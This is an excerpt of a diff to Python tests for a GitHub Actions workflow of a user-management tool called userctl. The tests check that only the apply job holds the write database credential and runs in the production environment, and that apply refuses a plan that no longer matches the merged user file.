+    for name in ("plan", "replan", "apply", "drift"):
         steps = _job(name)["steps"]
         installs = [i for i, s in enumerate(steps) if "pip install" in s.get("run", "")]
         assert [steps[i]["run"].strip() for i in installs] == ['pip install ".[postgres]"'], name
         checkout = next(i for i, s in enumerate(steps) if str(s.get("uses", "")).startswith("actions/checkout@"))
         assert checkout < installs[0], name
-    assert set(yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]) == {"plan", "apply"}
+    assert set(yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]) == {"plan", "replan", "apply", "drift"}
 
 
 def test_the_plan_job_holds_no_credentials_that_write() -> None:
-    assert _job("plan")["env"]["USERCTL_DATABASE_URL"] == "${{ secrets.USERCTL_PLAN_DATABASE_URL }}"
+    for reader in ("plan", "replan", "drift"):
+        assert _job(reader)["env"]["USERCTL_DATABASE_URL"] == "${{ secrets.USERCTL_PLAN_DATABASE_URL }}"
     assert _job("apply")["env"]["USERCTL_DATABASE_URL"] == "${{ secrets.USERCTL_DATABASE_URL }}"
+    assert _job("apply")["environment"] == "production"
     workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
     assert "USERCTL_DATABASE_URL" not in workflow.get("env", {})
 
@@ -306,8 +636,9 @@ def test_the_apply_step_applies_the_reviewed_plan_and_refuses_one_the_merged_fil
     monkeypatch.chdir(tmp_path)
     assert run("export", "-o", "users.yaml").exit_code == 0
     merged = Path("users.yaml").read_text(encoding="utf-8")
-    (step,) = [s for s in _job("apply")["steps"] if s.get("name") == "Apply"]
-    command = shlex.split(step["run"].replace("${{ vars.USERCTL_OPERATOR }}", operator.email))[1:]
+    (line,) = [line.strip() for line in _step(_job("apply"), "Apply")["run"].splitlines() if line.strip().startswith("userctl ")]
+    command = shlex.split(line)[1:]
+    monkeypatch.setenv("USERCTL_OPERATOR", operator.email)  # the job's env, from the repository variable
 
     # The pull request's job planned something else than what was merged: bob deleted.
     Path("users.yaml").write_text(re.sub(r"  bob@acme.co:.*?(?=\n  \S|\Z)", "", merged, flags=re.S), encoding="utf-8")
